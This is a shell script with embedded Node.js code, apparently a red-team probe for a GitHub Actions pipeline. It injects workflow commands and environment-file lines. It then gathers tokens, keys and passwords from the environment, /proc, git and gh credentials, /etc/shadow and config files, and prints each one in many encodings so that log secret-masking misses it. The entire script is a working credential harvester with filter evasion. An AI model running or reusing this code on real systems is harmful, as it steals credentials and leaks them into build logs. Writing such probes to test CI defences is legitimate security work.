# Threats 7, 8, 12: looks for keys and tokens wherever a program can look, and prints what it finds in
# every dress that a filter might not know.
echo '::set-output name=tasks::{"task-66-1":"injected"}'
echo 'a ##[error]injected by a tool'
printf 'x\r::notice::injected by a carriage return\n'
printf 'EOF\nX=injected\n' | tee -a "${GITHUB_ENV:-/dev/null}" "${GITHUB_OUTPUT:-/dev/null}" "${GITHUB_STEP_SUMMARY:-/dev/null}"
node --input-type=module <<'PROGRAM'
import { execFileSync } from "node:child_process";
import { readdirSync, readFileSync } from "node:fs";
import { gzipSync } from "node:zlib";

const SECRET = /sk-[\w-]{12,}|gh[a-z]_\w{12,}|eyJ[\w-]{8,}\.[\w-]{8,}\.[\w-]+|AUTHORIZATION: basic [\w+/=]{12,}/gi;
const NAMED = /\w*(?:TOKEN|KEY|SECRET|PASSWORD)\w*=[^\0\n]+/g;
const found = new Set();
const search = (text) => {
  for (const pattern of [SECRET, NAMED]) for (const [hit] of text.matchAll(pattern)) found.add(hit);
};
const attempt = (look) => {
  try {
    look();
  } catch {
    // stopped
  }
};
const file = (path) => attempt(() => search(readFileSync(path, "latin1")));
const run = (...command) =>
  attempt(() => search(execFileSync(command[0], command.slice(1), { encoding: "latin1", stdio: ["ignore", "pipe", "ignore"] })));

search(Object.entries(process.env).map(([name, value]) => `${name}=${value}`).join("\n"));
for (const pid of readdirSync("/proc").filter((name) => /^\d+$/.test(name))) {
  for (const name of ["environ", "cmdline", "root/proc/1/environ", "cwd/.env"]) file(`/proc/${pid}/${name}`);
  attempt(() => {
    for (const fd of readdirSync(`/proc/${pid}/fd`)) if (Number(fd) > 2) file(`/proc/${pid}/fdinfo/${fd}`);
  });
}
run("git", "config", "--list");
run("gh", "auth", "token");
run("docker", "ps");
for (const path of ["/root", "/home", "/var/run/secrets", "/run", "/etc/shadow", process.env.HOME])
  for (const name of ["", "/.netrc", "/.git-credentials", "/.npmrc", "/.docker/config.json", "/.config/gh/hosts.yml", "/.aws/credentials"]) file(path + name);
// Upwards from here: the clone, the job's temp folder with the event, other jobs.
const walk = (folder, depth) => {
  attempt(() => {
    for (const entry of readdirSync(folder, { withFileTypes: true })) {
      const path = `${folder}/${entry.name}`;
      if (entry.isDirectory() && depth > 0 && !["node_modules", "objects"].includes(entry.name)) walk(path, depth - 1);
      else if (entry.isFile()) file(path);
    }
  });
};
const up = process.cwd().split("/");
for (let length = up.length; length > 1; length--) walk(up.slice(0, length).join("/"), 2);

console.log(found.size === 0 ? "looked everywhere: found nothing" : `looked everywhere: found ${found.size} values`);
for (const secret of found) {
  const bytes = Buffer.from(secret);
  const dresses = [
    secret,
    bytes.toString("base64"),
    Buffer.concat([Buffer.from("x"), bytes]).toString("base64"),
    bytes.toString("base64url"),
    bytes.toString("hex"),
    encodeURIComponent(secret),
    [...bytes].map((byte) => `%${byte.toString(16)}`).join(""),
    [...secret].reverse().join(""),
    [...secret].join(" "),
    secret.match(/.{1,7}/g).join("\n"),
    gzipSync(bytes).toString("base64"),
    JSON.stringify(secret),
  ];
  console.log(dresses.join("\n"));
}
PROGRAM
